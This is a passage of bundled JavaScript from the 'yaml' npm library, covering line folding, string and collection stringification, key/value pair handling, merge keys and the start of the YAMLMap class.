          if (ch === " " && prev && prev !== " " && prev !== "\n" && prev !== "	") {
            const next = text[i + 1];
            if (next && next !== " " && next !== "\n" && next !== "	")
              split = i;
          }
          if (i >= end) {
            if (split) {
              folds.push(split);
              end = split + endStep;
              split = void 0;
            } else if (mode === FOLD_QUOTED) {
              while (prev === " " || prev === "	") {
                prev = ch;
                ch = text[i += 1];
                overflow = true;
              }
              const j = i > escEnd + 1 ? i - 2 : escStart - 1;
              if (escapedFolds[j])
                return text;
              folds.push(j);
              escapedFolds[j] = true;
              end = j + endStep;
              split = void 0;
            } else {
              overflow = true;
            }
          }
        }
        prev = ch;
      }
      if (overflow && onOverflow)
        onOverflow();
      if (folds.length === 0)
        return text;
      if (onFold)
        onFold();
      let res = text.slice(0, folds[0]);
      for (let i2 = 0; i2 < folds.length; ++i2) {
        const fold = folds[i2];
        const end2 = folds[i2 + 1] || text.length;
        if (fold === 0)
          res = `
${indent}${text.slice(0, end2)}`;
        else {
          if (mode === FOLD_QUOTED && escapedFolds[fold])
            res += `${text[fold]}\\`;
          res += `
${indent}${text.slice(fold + 1, end2)}`;
        }
      }
      return res;
    }
    function consumeMoreIndentedLines(text, i, indent) {
      let end = i;
      let start = i + 1;
      let ch = text[start];
      while (ch === " " || ch === "	") {
        if (i < start + indent) {
          ch = text[++i];
        } else {
          do {
            ch = text[++i];
          } while (ch && ch !== "\n");
          end = i;
          start = i + 1;
          ch = text[start];
        }
      }
      return end;
    }
    exports2.FOLD_BLOCK = FOLD_BLOCK;
    exports2.FOLD_FLOW = FOLD_FLOW;
    exports2.FOLD_QUOTED = FOLD_QUOTED;
    exports2.foldFlowLines = foldFlowLines;
  }
});

// node_modules/yaml/dist/stringify/stringifyString.js
var require_stringifyString = __commonJS({
  "node_modules/yaml/dist/stringify/stringifyString.js"(exports2) {
    "use strict";
    var Scalar2 = require_Scalar();
    var foldFlowLines = require_foldFlowLines();
    var getFoldOptions = (ctx, isBlock) => ({
      indentAtStart: isBlock ? ctx.indent.length : ctx.indentAtStart,
      lineWidth: ctx.options.lineWidth,
      minContentWidth: ctx.options.minContentWidth
    });
    var containsDocumentMarker = (str3) => /^(%|---|\.\.\.)/m.test(str3);
    function lineLengthOverLimit(str3, lineWidth, indentLength) {
      if (!lineWidth || lineWidth < 0)
        return false;
      const limit2 = lineWidth - indentLength;
      const strLen = str3.length;
      if (strLen <= limit2)
        return false;
      for (let i = 0, start = 0; i < strLen; ++i) {
        if (str3[i] === "\n") {
          if (i - start > limit2)
            return true;
          start = i + 1;
          if (strLen - start <= limit2)
            return false;
        }
      }
      return true;
    }
    function doubleQuotedString(value, ctx) {
      const json = JSON.stringify(value);
      if (ctx.options.doubleQuotedAsJSON)
        return json;
      const { implicitKey } = ctx;
      const minMultiLineLength = ctx.options.doubleQuotedMinMultiLineLength;
      const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
      let str3 = "";
      let start = 0;
      for (let i = 0, ch = json[i]; ch; ch = json[++i]) {
        if (ch === " " && json[i + 1] === "\\" && json[i + 2] === "n") {
          str3 += json.slice(start, i) + "\\ ";
          i += 1;
          start = i;
          ch = "\\";
        }
        if (ch === "\\")
          switch (json[i + 1]) {
            case "u":
              {
                str3 += json.slice(start, i);
                const code3 = json.substr(i + 2, 4);
                switch (code3) {
                  case "0000":
                    str3 += "\\0";
                    break;
                  case "0007":
                    str3 += "\\a";
                    break;
                  case "000b":
                    str3 += "\\v";
                    break;
                  case "001b":
                    str3 += "\\e";
                    break;
                  case "0085":
                    str3 += "\\N";
                    break;
                  case "00a0":
                    str3 += "\\_";
                    break;
                  case "2028":
                    str3 += "\\L";
                    break;
                  case "2029":
                    str3 += "\\P";
                    break;
                  default:
                    if (code3.substr(0, 2) === "00")
                      str3 += "\\x" + code3.substr(2);
                    else
                      str3 += json.substr(i, 6);
                }
                i += 5;
                start = i + 1;
              }
              break;
            case "n":
              if (implicitKey || json[i + 2] === '"' || json.length < minMultiLineLength) {
                i += 1;
              } else {
                str3 += json.slice(start, i) + "\n\n";
                while (json[i + 2] === "\\" && json[i + 3] === "n" && json[i + 4] !== '"') {
                  str3 += "\n";
                  i += 2;
                }
                str3 += indent;
                if (json[i + 2] === " ")
                  str3 += "\\";
                i += 1;
                start = i + 1;
              }
              break;
            default:
              i += 1;
          }
      }
      str3 = start ? str3 + json.slice(start) : json;
      return implicitKey ? str3 : foldFlowLines.foldFlowLines(str3, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
    }
    function singleQuotedString(value, ctx) {
      if (ctx.options.singleQuote === false || ctx.implicitKey && value.includes("\n") || /[ \t]\n|\n[ \t]/.test(value))
        return doubleQuotedString(value, ctx);
      const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
      const res = "'" + value.replace(/'/g, "''").replace(/\n+/g, `$&
${indent}`) + "'";
      return ctx.implicitKey ? res : foldFlowLines.foldFlowLines(res, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
    }
    function quotedString(value, ctx) {
      const { singleQuote } = ctx.options;
      let qs;
      if (singleQuote === false)
        qs = doubleQuotedString;
      else {
        const hasDouble = value.includes('"');
        const hasSingle = value.includes("'");
        if (hasDouble && !hasSingle)
          qs = singleQuotedString;
        else if (hasSingle && !hasDouble)
          qs = doubleQuotedString;
        else
          qs = singleQuote ? singleQuotedString : doubleQuotedString;
      }
      return qs(value, ctx);
    }
    var blockEndNewlines;
    try {
      blockEndNewlines = new RegExp("(^|(?<!\n))\n+(?!\n|$)", "g");
    } catch {
      blockEndNewlines = /\n+(?!\n|$)/g;
    }
    function blockString({ comment, type, value }, ctx, onComment, onChompKeep) {
      const { blockQuote, commentString, lineWidth } = ctx.options;
      if (!blockQuote || /\n[\t ]+$/.test(value)) {
        return quotedString(value, ctx);
      }
      const indent = ctx.indent || (ctx.forceBlockIndent || containsDocumentMarker(value) ? "  " : "");
      const literal = blockQuote === "literal" ? true : blockQuote === "folded" || type === Scalar2.Scalar.BLOCK_FOLDED ? false : type === Scalar2.Scalar.BLOCK_LITERAL ? true : !lineLengthOverLimit(value, lineWidth, indent.length);
      if (!value)
        return literal ? "|\n" : ">\n";
      let chomp;
      let endStart;
      for (endStart = value.length; endStart > 0; --endStart) {
        const ch = value[endStart - 1];
        if (ch !== "\n" && ch !== "	" && ch !== " ")
          break;
      }
      let end = value.substring(endStart);
      const endNlPos = end.indexOf("\n");
      if (endNlPos === -1) {
        chomp = "-";
      } else if (value === end || endNlPos !== end.length - 1) {
        chomp = "+";
        if (onChompKeep)
          onChompKeep();
      } else {
        chomp = "";
      }
      if (end) {
        value = value.slice(0, -end.length);
        if (end[end.length - 1] === "\n")
          end = end.slice(0, -1);
        end = end.replace(blockEndNewlines, `$&${indent}`);
      }
      let startWithSpace = false;
      let startEnd;
      let startNlPos = -1;
      for (startEnd = 0; startEnd < value.length; ++startEnd) {
        const ch = value[startEnd];
        if (ch === " ")
          startWithSpace = true;
        else if (ch === "\n")
          startNlPos = startEnd;
        else
          break;
      }
      let start = value.substring(0, startNlPos < startEnd ? startNlPos + 1 : startEnd);
      if (start) {
        value = value.substring(start.length);
        start = start.replace(/\n+/g, `$&${indent}`);
      }
      const indentSize = indent ? "2" : "1";
      let header = (startWithSpace ? indentSize : "") + chomp;
      if (comment) {
        header += " " + commentString(comment.replace(/ ?[\r\n]+/g, " "));
        if (onComment)
          onComment();
      }
      if (!literal) {
        const foldedValue = value.replace(/\n+/g, "\n$&").replace(/(?:^|\n)([\t ].*)(?:([\n\t ]*)\n(?![\n\t ]))?/g, "$1$2").replace(/\n+/g, `$&${indent}`);
        let literalFallback = false;
        const foldOptions = getFoldOptions(ctx, true);
        if (blockQuote !== "folded" && type !== Scalar2.Scalar.BLOCK_FOLDED) {
          foldOptions.onOverflow = () => {
            literalFallback = true;
          };
        }
        const body = foldFlowLines.foldFlowLines(`${start}${foldedValue}${end}`, indent, foldFlowLines.FOLD_BLOCK, foldOptions);
        if (!literalFallback)
          return `>${header}
${indent}${body}`;
      }
      value = value.replace(/\n+/g, `$&${indent}`);
      return `|${header}
${indent}${start}${value}${end}`;
    }
    function plainString(item, ctx, onComment, onChompKeep) {
      const { type, value } = item;
      const { actualString, implicitKey, indent, indentStep, inFlow } = ctx;
      if (implicitKey && value.includes("\n") || inFlow && /[[\]{},]/.test(value)) {
        return quotedString(value, ctx);
      }
      if (/^[\n\t ,[\]{}#&*!|>'"%@`]|^[?-]$|^[?-][ \t]|[\n:][ \t]|[ \t]\n|[\n\t ]#|[\n\t :]$/.test(value)) {
        return implicitKey || inFlow || !value.includes("\n") ? quotedString(value, ctx) : blockString(item, ctx, onComment, onChompKeep);
      }
      if (!implicitKey && !inFlow && type !== Scalar2.Scalar.PLAIN && value.includes("\n")) {
        return blockString(item, ctx, onComment, onChompKeep);
      }
      if (containsDocumentMarker(value)) {
        if (indent === "") {
          ctx.forceBlockIndent = true;
          return blockString(item, ctx, onComment, onChompKeep);
        } else if (implicitKey && indent === indentStep) {
          return quotedString(value, ctx);
        }
      }
      const str3 = value.replace(/\n+/g, `$&
${indent}`);
      if (actualString) {
        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str3);
        const { compat, tags } = ctx.doc.schema;
        if (tags.some(test) || compat?.some(test))
          return quotedString(value, ctx);
      }
      return implicitKey ? str3 : foldFlowLines.foldFlowLines(str3, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
    }
    function stringifyString(item, ctx, onComment, onChompKeep) {
      const { implicitKey, inFlow } = ctx;
      const ss = typeof item.value === "string" ? item : Object.assign({}, item, { value: String(item.value) });
      let { type } = item;
      if (type !== Scalar2.Scalar.QUOTE_DOUBLE) {
        if (/[\x00-\x08\x0b-\x1f\x7f-\x9f\u{D800}-\u{DFFF}]/u.test(ss.value))
          type = Scalar2.Scalar.QUOTE_DOUBLE;
      }
      const _stringify = (_type) => {
        switch (_type) {
          case Scalar2.Scalar.BLOCK_FOLDED:
          case Scalar2.Scalar.BLOCK_LITERAL:
            return implicitKey || inFlow ? quotedString(ss.value, ctx) : blockString(ss, ctx, onComment, onChompKeep);
          case Scalar2.Scalar.QUOTE_DOUBLE:
            return doubleQuotedString(ss.value, ctx);
          case Scalar2.Scalar.QUOTE_SINGLE:
            return singleQuotedString(ss.value, ctx);
          case Scalar2.Scalar.PLAIN:
            return plainString(ss, ctx, onComment, onChompKeep);
          default:
            return null;
        }
      };
      let res = _stringify(type);
      if (res === null) {
        const { defaultKeyType, defaultStringType } = ctx.options;
        const t = implicitKey && defaultKeyType || defaultStringType;
        res = _stringify(t);
        if (res === null)
          throw new Error(`Unsupported default string type ${t}`);
      }
      return res;
    }
    exports2.stringifyString = stringifyString;
  }
});

// node_modules/yaml/dist/stringify/stringify.js
var require_stringify = __commonJS({
  "node_modules/yaml/dist/stringify/stringify.js"(exports2) {
    "use strict";
    var anchors = require_anchors();
    var identity = require_identity();
    var stringifyComment = require_stringifyComment();
    var stringifyString = require_stringifyString();
    function createStringifyContext(doc, options) {
      const opt2 = Object.assign({
        blockQuote: true,
        commentString: stringifyComment.stringifyComment,
        defaultKeyType: null,
        defaultStringType: "PLAIN",
        directives: null,
        doubleQuotedAsJSON: false,
        doubleQuotedMinMultiLineLength: 40,
        falseStr: "false",
        flowCollectionPadding: true,
        indentSeq: true,
        lineWidth: 80,
        minContentWidth: 20,
        nullStr: "null",
        simpleKeys: false,
        singleQuote: null,
        trailingComma: false,
        trueStr: "true",
        verifyAliasOrder: true
      }, doc.schema.toStringOptions, options);
      let inFlow;
      switch (opt2.collectionStyle) {
        case "block":
          inFlow = false;
          break;
        case "flow":
          inFlow = true;
          break;
        default:
          inFlow = null;
      }
      return {
        anchors: /* @__PURE__ */ new Set(),
        doc,
        flowCollectionPadding: opt2.flowCollectionPadding ? " " : "",
        indent: "",
        indentStep: typeof opt2.indent === "number" ? " ".repeat(opt2.indent) : "  ",
        inFlow,
        options: opt2
      };
    }
    function getTagObject(tags, item) {
      if (item.tag) {
        const match = tags.filter((t) => t.tag === item.tag);
        if (match.length > 0)
          return match.find((t) => t.format === item.format) ?? match[0];
      }
      let tagObj = void 0;
      let obj2;
      if (identity.isScalar(item)) {
        obj2 = item.value;
        let match = tags.filter((t) => t.identify?.(obj2));
        if (match.length > 1) {
          const testMatch = match.filter((t) => t.test);
          if (testMatch.length > 0)
            match = testMatch;
        }
        tagObj = match.find((t) => t.format === item.format) ?? match.find((t) => !t.format);
      } else {
        obj2 = item;
        tagObj = tags.find((t) => t.nodeClass && obj2 instanceof t.nodeClass);
      }
      if (!tagObj) {
        const name = obj2?.constructor?.name ?? (obj2 === null ? "null" : typeof obj2);
        throw new Error(`Tag not resolved for ${name} value`);
      }
      return tagObj;
    }
    function stringifyProps(node, tagObj, { anchors: anchors$1, doc }) {
      if (!doc.directives)
        return "";
      const props = [];
      const anchor = (identity.isScalar(node) || identity.isCollection(node)) && node.anchor;
      if (anchor && anchors.anchorIsValid(anchor)) {
        anchors$1.add(anchor);
        props.push(`&${anchor}`);
      }
      const tag = node.tag ?? (tagObj.default ? null : tagObj.tag);
      if (tag)
        props.push(doc.directives.tagString(tag));
      return props.join(" ");
    }
    function stringify(item, ctx, onComment, onChompKeep) {
      if (identity.isPair(item))
        return item.toString(ctx, onComment, onChompKeep);
      if (identity.isAlias(item)) {
        if (ctx.doc.directives)
          return item.toString(ctx);
        if (ctx.resolvedAliases?.has(item)) {
          throw new TypeError(`Cannot stringify circular structure without alias nodes`);
        } else {
          if (ctx.resolvedAliases)
            ctx.resolvedAliases.add(item);
          else
            ctx.resolvedAliases = /* @__PURE__ */ new Set([item]);
          item = item.resolve(ctx.doc);
        }
      }
      let tagObj = void 0;
      const node = identity.isNode(item) ? item : ctx.doc.createNode(item, { onTagObj: (o) => tagObj = o });
      tagObj ?? (tagObj = getTagObject(ctx.doc.schema.tags, node));
      const props = stringifyProps(node, tagObj, ctx);
      if (props.length > 0)
        ctx.indentAtStart = (ctx.indentAtStart ?? 0) + props.length + 1;
      const str3 = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
      if (!props)
        return str3;
      return identity.isScalar(node) || str3[0] === "{" || str3[0] === "[" ? `${props} ${str3}` : `${props}
${ctx.indent}${str3}`;
    }
    exports2.createStringifyContext = createStringifyContext;
    exports2.stringify = stringify;
  }
});

// node_modules/yaml/dist/stringify/stringifyPair.js
var require_stringifyPair = __commonJS({
  "node_modules/yaml/dist/stringify/stringifyPair.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Scalar2 = require_Scalar();
    var stringify = require_stringify();
    var stringifyComment = require_stringifyComment();
    function stringifyPair({ key: key2, value }, ctx, onComment, onChompKeep) {
      const { allNullValues, doc, indent, indentStep, options: { commentString, indentSeq, simpleKeys } } = ctx;
      let keyComment = identity.isNode(key2) && key2.comment || null;
      if (simpleKeys) {
        if (keyComment) {
          throw new Error("With simple keys, key nodes cannot have comments");
        }
        if (identity.isCollection(key2) || !identity.isNode(key2) && typeof key2 === "object") {
          const msg = "With simple keys, collection cannot be used as a key value";
          throw new Error(msg);
        }
      }
      let explicitKey = !simpleKeys && (!key2 || keyComment && value == null && !ctx.inFlow || identity.isCollection(key2) || (identity.isScalar(key2) ? key2.type === Scalar2.Scalar.BLOCK_FOLDED || key2.type === Scalar2.Scalar.BLOCK_LITERAL : typeof key2 === "object"));
      ctx = Object.assign({}, ctx, {
        allNullValues: false,
        implicitKey: !explicitKey && (simpleKeys || !allNullValues),
        indent: indent + indentStep
      });
      let keyCommentDone = false;
      let chompKeep = false;
      let str3 = stringify.stringify(key2, ctx, () => keyCommentDone = true, () => chompKeep = true);
      if (!explicitKey && !ctx.inFlow && str3.length > 1024) {
        if (simpleKeys)
          throw new Error("With simple keys, single line scalar must not span more than 1024 characters");
        explicitKey = true;
      }
      if (ctx.inFlow) {
        if (allNullValues || value == null) {
          if (keyCommentDone && onComment)
            onComment();
          return str3 === "" ? "?" : explicitKey ? `? ${str3}` : str3;
        }
      } else if (allNullValues && !simpleKeys || value == null && explicitKey) {
        str3 = `? ${str3}`;
        if (keyComment && !keyCommentDone) {
          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
        } else if (chompKeep && onChompKeep)
          onChompKeep();
        return str3;
      }
      if (keyCommentDone)
        keyComment = null;
      if (explicitKey) {
        if (keyComment)
          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
        str3 = `? ${str3}
${indent}:`;
      } else {
        str3 = `${str3}:`;
        if (keyComment)
          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
      }
      let vsb, vcb, valueComment;
      if (identity.isNode(value)) {
        vsb = !!value.spaceBefore;
        vcb = value.commentBefore;
        valueComment = value.comment;
      } else {
        vsb = false;
        vcb = null;
        valueComment = null;
        if (value && typeof value === "object")
          value = doc.createNode(value);
      }
      ctx.implicitKey = false;
      if (!explicitKey && !keyComment && identity.isScalar(value))
        ctx.indentAtStart = str3.length + 1;
      chompKeep = false;
      if (!indentSeq && indentStep.length >= 2 && !ctx.inFlow && !explicitKey && identity.isSeq(value) && !value.flow && !value.tag && !value.anchor) {
        ctx.indent = ctx.indent.substring(2);
      }
      let valueCommentDone = false;
      const valueStr = stringify.stringify(value, ctx, () => valueCommentDone = true, () => chompKeep = true);
      let ws = " ";
      if (keyComment || vsb || vcb) {
        ws = vsb ? "\n" : "";
        if (vcb) {
          const cs = commentString(vcb);
          ws += `
${stringifyComment.indentComment(cs, ctx.indent)}`;
        }
        if (valueStr === "" && !ctx.inFlow) {
          if (ws === "\n" && valueComment)
            ws = "\n\n";
        } else {
          ws += `
${ctx.indent}`;
        }
      } else if (!explicitKey && identity.isCollection(value)) {
        const vs0 = valueStr[0];
        const nl0 = valueStr.indexOf("\n");
        const hasNewline = nl0 !== -1;
        const flow = ctx.inFlow ?? value.flow ?? value.items.length === 0;
        if (hasNewline || !flow) {
          let hasPropsLine = false;
          if (hasNewline && (vs0 === "&" || vs0 === "!")) {
            let sp0 = valueStr.indexOf(" ");
            if (vs0 === "&" && sp0 !== -1 && sp0 < nl0 && valueStr[sp0 + 1] === "!") {
              sp0 = valueStr.indexOf(" ", sp0 + 1);
            }
            if (sp0 === -1 || nl0 < sp0)
              hasPropsLine = true;
          }
          if (!hasPropsLine)
            ws = `
${ctx.indent}`;
        }
      } else if (valueStr === "" || valueStr[0] === "\n") {
        ws = "";
      }
      str3 += ws + valueStr;
      if (ctx.inFlow) {
        if (valueCommentDone && onComment)
          onComment();
      } else if (valueComment && !valueCommentDone) {
        str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(valueComment));
      } else if (chompKeep && onChompKeep) {
        onChompKeep();
      }
      return str3;
    }
    exports2.stringifyPair = stringifyPair;
  }
});

// node_modules/yaml/dist/log.js
var require_log = __commonJS({
  "node_modules/yaml/dist/log.js"(exports2) {
    "use strict";
    var node_process = require("process");
    function debug(logLevel, ...messages) {
      if (logLevel === "debug")
        console.log(...messages);
    }
    function warn(logLevel, warning) {
      if (logLevel === "debug" || logLevel === "warn") {
        if (typeof node_process.emitWarning === "function")
          node_process.emitWarning(warning);
        else
          console.warn(warning);
      }
    }
    exports2.debug = debug;
    exports2.warn = warn;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/merge.js
var require_merge = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/merge.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var Scalar2 = require_Scalar();
    var MERGE_KEY = "<<";
    var merge = {
      identify: (value) => value === MERGE_KEY || typeof value === "symbol" && value.description === MERGE_KEY,
      default: "key",
      tag: "tag:yaml.org,2002:merge",
      test: /^<<$/,
      resolve: () => Object.assign(new Scalar2.Scalar(Symbol(MERGE_KEY)), {
        addToJSMap: addMergeToJSMap
      }),
      stringify: () => MERGE_KEY
    };
    var isMergeKey = (ctx, key2) => (merge.identify(key2) || identity.isScalar(key2) && (!key2.type || key2.type === Scalar2.Scalar.PLAIN) && merge.identify(key2.value)) && ctx?.doc.schema.tags.some((tag) => tag.tag === merge.tag && tag.default);
    function addMergeToJSMap(ctx, map, value) {
      const source = resolveAliasValue(ctx, value);
      if (identity.isSeq(source))
        for (const it of source.items)
          mergeValue(ctx, map, it);
      else if (Array.isArray(source))
        for (const it of source)
          mergeValue(ctx, map, it);
      else
        mergeValue(ctx, map, source);
    }
    function mergeValue(ctx, map, value) {
      const source = resolveAliasValue(ctx, value);
      if (!identity.isMap(source))
        throw new Error("Merge sources must be maps or map aliases");
      const srcMap = source.toJSON(null, ctx, Map);
      for (const [key2, value2] of srcMap) {
        if (map instanceof Map) {
          if (!map.has(key2))
            map.set(key2, value2);
        } else if (map instanceof Set) {
          map.add(key2);
        } else if (!Object.prototype.hasOwnProperty.call(map, key2)) {
          Object.defineProperty(map, key2, {
            value: value2,
            writable: true,
            enumerable: true,
            configurable: true
          });
        }
      }
      return map;
    }
    function resolveAliasValue(ctx, value) {
      return ctx && identity.isAlias(value) ? value.resolve(ctx.doc, ctx) : value;
    }
    exports2.addMergeToJSMap = addMergeToJSMap;
    exports2.isMergeKey = isMergeKey;
    exports2.merge = merge;
  }
});

// node_modules/yaml/dist/nodes/addPairToJSMap.js
var require_addPairToJSMap = __commonJS({
  "node_modules/yaml/dist/nodes/addPairToJSMap.js"(exports2) {
    "use strict";
    var log = require_log();
    var merge = require_merge();
    var stringify = require_stringify();
    var identity = require_identity();
    var toJS = require_toJS();
    function addPairToJSMap(ctx, map, { key: key2, value }) {
      if (identity.isNode(key2) && key2.addToJSMap)
        key2.addToJSMap(ctx, map, value);
      else if (merge.isMergeKey(ctx, key2))
        merge.addMergeToJSMap(ctx, map, value);
      else {
        const jsKey = toJS.toJS(key2, "", ctx);
        if (map instanceof Map) {
          map.set(jsKey, toJS.toJS(value, jsKey, ctx));
        } else if (map instanceof Set) {
          map.add(jsKey);
        } else {
          const stringKey = stringifyKey(key2, jsKey, ctx);
          const jsValue = toJS.toJS(value, stringKey, ctx);
          if (stringKey in map)
            Object.defineProperty(map, stringKey, {
              value: jsValue,
              writable: true,
              enumerable: true,
              configurable: true
            });
          else
            map[stringKey] = jsValue;
        }
      }
      return map;
    }
    function stringifyKey(key2, jsKey, ctx) {
      if (jsKey === null)
        return "";
      if (typeof jsKey !== "object")
        return String(jsKey);
      if (identity.isNode(key2) && ctx?.doc) {
        const strCtx = stringify.createStringifyContext(ctx.doc, {});
        strCtx.anchors = /* @__PURE__ */ new Set();
        for (const node of ctx.anchors.keys())
          strCtx.anchors.add(node.anchor);
        strCtx.inFlow = true;
        strCtx.inStringifyKey = true;
        const strKey = key2.toString(strCtx);
        if (!ctx.mapKeyWarned) {
          let jsonStr = JSON.stringify(strKey);
          if (jsonStr.length > 40)
            jsonStr = jsonStr.substring(0, 36) + '..."';
          log.warn(ctx.doc.options.logLevel, `Keys with collection values will be stringified due to JS Object restrictions: ${jsonStr}. Set mapAsMap: true to use object keys.`);
          ctx.mapKeyWarned = true;
        }
        return strKey;
      }
      return JSON.stringify(jsKey);
    }
    exports2.addPairToJSMap = addPairToJSMap;
  }
});

// node_modules/yaml/dist/nodes/Pair.js
var require_Pair = __commonJS({
  "node_modules/yaml/dist/nodes/Pair.js"(exports2) {
    "use strict";
    var createNode = require_createNode();
    var stringifyPair = require_stringifyPair();
    var addPairToJSMap = require_addPairToJSMap();
    var identity = require_identity();
    function createPair(key2, value, ctx) {
      const k = createNode.createNode(key2, void 0, ctx);
      const v = createNode.createNode(value, void 0, ctx);
      return new Pair(k, v);
    }
    var Pair = class _Pair {
      constructor(key2, value = null) {
        Object.defineProperty(this, identity.NODE_TYPE, { value: identity.PAIR });
        this.key = key2;
        this.value = value;
      }
      clone(schema) {
        let { key: key2, value } = this;
        if (identity.isNode(key2))
          key2 = key2.clone(schema);
        if (identity.isNode(value))
          value = value.clone(schema);
        return new _Pair(key2, value);
      }
      toJSON(_, ctx) {
        const pair = ctx?.mapAsMap ? /* @__PURE__ */ new Map() : {};
        return addPairToJSMap.addPairToJSMap(ctx, pair, this);
      }
      toString(ctx, onComment, onChompKeep) {
        return ctx?.doc ? stringifyPair.stringifyPair(this, ctx, onComment, onChompKeep) : JSON.stringify(this);
      }
    };
    exports2.Pair = Pair;
    exports2.createPair = createPair;
  }
});

// node_modules/yaml/dist/stringify/stringifyCollection.js
var require_stringifyCollection = __commonJS({
  "node_modules/yaml/dist/stringify/stringifyCollection.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var stringify = require_stringify();
    var stringifyComment = require_stringifyComment();
    function stringifyCollection(collection, ctx, options) {
      const flow = ctx.inFlow ?? collection.flow;
      const stringify2 = flow ? stringifyFlowCollection : stringifyBlockCollection;
      return stringify2(collection, ctx, options);
    }
    function stringifyBlockCollection({ comment, items }, ctx, { blockItemPrefix, flowChars, itemIndent, onChompKeep, onComment }) {
      const { indent, options: { commentString } } = ctx;
      const itemCtx = Object.assign({}, ctx, { indent: itemIndent, type: null });
      let chompKeep = false;
      const lines = [];
      for (let i = 0; i < items.length; ++i) {
        const item = items[i];
        let comment2 = null;
        if (identity.isNode(item)) {
          if (!chompKeep && item.spaceBefore)
            lines.push("");
          addCommentBefore(ctx, lines, item.commentBefore, chompKeep);
          if (item.comment)
            comment2 = item.comment;
        } else if (identity.isPair(item)) {
          const ik = identity.isNode(item.key) ? item.key : null;
          if (ik) {
            if (!chompKeep && ik.spaceBefore)
              lines.push("");
            addCommentBefore(ctx, lines, ik.commentBefore, chompKeep);
          }
        }
        chompKeep = false;
        let str4 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
        if (comment2)
          str4 += stringifyComment.lineComment(str4, itemIndent, commentString(comment2));
        if (chompKeep && comment2)
          chompKeep = false;
        lines.push(blockItemPrefix + str4);
      }
      let str3;
      if (lines.length === 0) {
        str3 = flowChars.start + flowChars.end;
      } else {
        str3 = lines[0];
        for (let i = 1; i < lines.length; ++i) {
          const line = lines[i];
          str3 += line ? `
${indent}${line}` : "\n";
        }
      }
      if (comment) {
        str3 += "\n" + stringifyComment.indentComment(commentString(comment), indent);
        if (onComment)
          onComment();
      } else if (chompKeep && onChompKeep)
        onChompKeep();
      return str3;
    }
    function stringifyFlowCollection({ items }, ctx, { flowChars, itemIndent }) {
      const { indent, indentStep, flowCollectionPadding: fcPadding, options: { commentString } } = ctx;
      itemIndent += indentStep;
      const itemCtx = Object.assign({}, ctx, {
        indent: itemIndent,
        inFlow: true,
        type: null
      });
      let reqNewline = false;
      let linesAtValue = 0;
      const lines = [];
      for (let i = 0; i < items.length; ++i) {
        const item = items[i];
        let comment = null;
        if (identity.isNode(item)) {
          if (item.spaceBefore)
            lines.push("");
          addCommentBefore(ctx, lines, item.commentBefore, false);
          if (item.comment)
            comment = item.comment;
        } else if (identity.isPair(item)) {
          const ik = identity.isNode(item.key) ? item.key : null;
          if (ik) {
            if (ik.spaceBefore)
              lines.push("");
            addCommentBefore(ctx, lines, ik.commentBefore, false);
            if (ik.comment)
              reqNewline = true;
          }
          const iv = identity.isNode(item.value) ? item.value : null;
          if (iv) {
            if (iv.comment)
              comment = iv.comment;
            if (iv.commentBefore)
              reqNewline = true;
          } else if (item.value == null && ik?.comment) {
            comment = ik.comment;
          }
        }
        if (comment)
          reqNewline = true;
        let str3 = stringify.stringify(item, itemCtx, () => comment = null);
        reqNewline || (reqNewline = lines.length > linesAtValue || str3.includes("\n"));
        if (i < items.length - 1) {
          str3 += ",";
        } else if (ctx.options.trailingComma) {
          if (ctx.options.lineWidth > 0) {
            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str3.length + 2) > ctx.options.lineWidth);
          }
          if (reqNewline) {
            str3 += ",";
          }
        }
        if (comment)
          str3 += stringifyComment.lineComment(str3, itemIndent, commentString(comment));
        lines.push(str3);
        linesAtValue = lines.length;
      }
      const { start, end } = flowChars;
      if (lines.length === 0) {
        return start + end;
      } else {
        if (!reqNewline) {
          const len = lines.reduce((sum, line) => sum + line.length + 2, 2);
          reqNewline = ctx.options.lineWidth > 0 && len > ctx.options.lineWidth;
        }
        if (reqNewline) {
          let str3 = start;
          for (const line of lines)
            str3 += line ? `
${indentStep}${indent}${line}` : "\n";
          return `${str3}
${indent}${end}`;
        } else {
          return `${start}${fcPadding}${lines.join(" ")}${fcPadding}${end}`;
        }
      }
    }
    function addCommentBefore({ indent, options: { commentString } }, lines, comment, chompKeep) {
      if (comment && chompKeep)
        comment = comment.replace(/^\n+/, "");
      if (comment) {
        const ic = stringifyComment.indentComment(commentString(comment), indent);
        lines.push(ic.trimStart());
      }
    }
    exports2.stringifyCollection = stringifyCollection;
  }
});

// node_modules/yaml/dist/nodes/YAMLMap.js
var require_YAMLMap = __commonJS({
  "node_modules/yaml/dist/nodes/YAMLMap.js"(exports2) {
    "use strict";
    var stringifyCollection = require_stringifyCollection();
    var addPairToJSMap = require_addPairToJSMap();
    var Collection = require_Collection();
    var identity = require_identity();
    var Pair = require_Pair();
    var Scalar2 = require_Scalar();
    function findPair(items, key2) {
      const k = identity.isScalar(key2) ? key2.value : key2;
      for (const it of items) {
        if (identity.isPair(it)) {
          if (it.key === key2 || it.key === k)
            return it;
          if (identity.isScalar(it.key) && it.key.value === k)
            return it;
        }
      }
      return void 0;
    }
    var YAMLMap = class extends Collection.Collection {
      static get tagName() {
        return "tag:yaml.org,2002:map";
      }
      constructor(schema) {
        super(identity.MAP, schema);
        this.items = [];
      }
      /**
       * A generic collection parsing method that can be extended
       * to other node classes that inherit from YAMLMap
       */
      static from(schema, obj2, ctx) {
